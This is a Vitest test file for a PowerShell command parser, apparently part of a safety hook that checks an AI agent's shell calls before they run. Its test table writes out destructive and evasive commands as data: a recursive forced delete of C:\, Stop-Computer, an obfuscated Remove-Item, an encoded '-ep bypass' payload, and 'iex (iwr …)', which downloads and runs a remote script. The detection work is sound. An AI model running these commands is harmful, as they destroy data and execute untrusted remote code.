import { describe, expect, it } from "vitest";
import { analyse } from "../../../src/effects/analyse.js";
import { readCommand, readPowerShellCommand } from "../../../src/effects/shell/read-command.js";
import { WHERE } from "./read.js";

const encoded = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const names = (command: string) =>
  readPowerShellCommand(command, WHERE).invocations.map(({ program = "?", args }) =>
    [program, ...args.map(({ text }) => text)].join(" "),
  );

const TABLE: readonly (readonly [string, readonly string[]])[] = [
  ["Remove-Item -Recurse -Force C:\\", ["Remove-Item -Recurse -Force C:\\"]],
  ["rm -r -fo 'C:\\a b'", ["Remove-Item -r -fo C:\\a b"]],
  ["remove-item x; DEL y", ["Remove-Item x", "Remove-Item y"]],
  ["Get-ChildItem | Remove-Item -Force", ["Get-ChildItem", "Remove-Item -Force"]],
  ["gci *.log | % { ri $_ }", ["Get-ChildItem *.log", "Remove-Item \u{FFFC}", "ForEach-Object"]],
  ["$x = 'C:\\'; Remove-Item $x", ["Remove-Item C:\\"]],
  ["if ($true) { Stop-Computer }", ["Stop-Computer"]],
  ["iex 'Remove-Item x'", ["Invoke-Expression Remove-Item x", "Remove-Item x"]],
  ["'Remove-Item x' | Out-Null # Remove-Item y", ["Out-Null"]],
  ["Rem`ove-Item x", ["Remove-Item x"]],
  ["cmd /c del x", ["cmd /c del x", "cmd /c del x", "del x"]],
];

describe("PowerShell", () => {
  it.each(TABLE)("T8 %s", (command, expected) => {
    expect(names(command)).toEqual(expected);
  });

  it("T8 asks about a text that it cannot tell", () => {
    expect(readPowerShellCommand("iex (iwr https://example.com/x.ps1)", WHERE).unclear).not.toEqual([]);
    expect(readPowerShellCommand("& $x", WHERE).unclear).not.toEqual([]);
    expect(readPowerShellCommand("x".repeat(100_000), WHERE).unclear).not.toEqual([]);
  });

  it.each([
    `pwsh -c "Remove-Item -Recurse C:\\x"`,
    "powershell.exe -NoProfile -Command 'Remove-Item -Recurse C:\\x'",
    `powershell -ep bypass -enc ${encoded("Remove-Item -Recurse C:\\x")}`,
    "echo 'Remove-Item -Recurse C:\\x' | pwsh -Command -",
  ])("T8 is read within another shell: %s", (command) => {
    const { invocations } = readCommand(command, WHERE);
    expect(invocations.find(({ program }) => program === "Remove-Item")?.args.map(({ text }) => text)).toEqual([
      "-Recurse",
      "C:\\x",
    ]);
  });

  it("T8 is analysed by the tool of that name", () => {
    const payload = {
      hook_event_name: "PreToolUse",
      tool_name: "PowerShell",
      tool_input: { command: "Remove-Item -Recurse -Force C:\\" },
    };
    expect(analyse(payload as never, WHERE).programs).toEqual(["Remove-Item"]);
  });
});
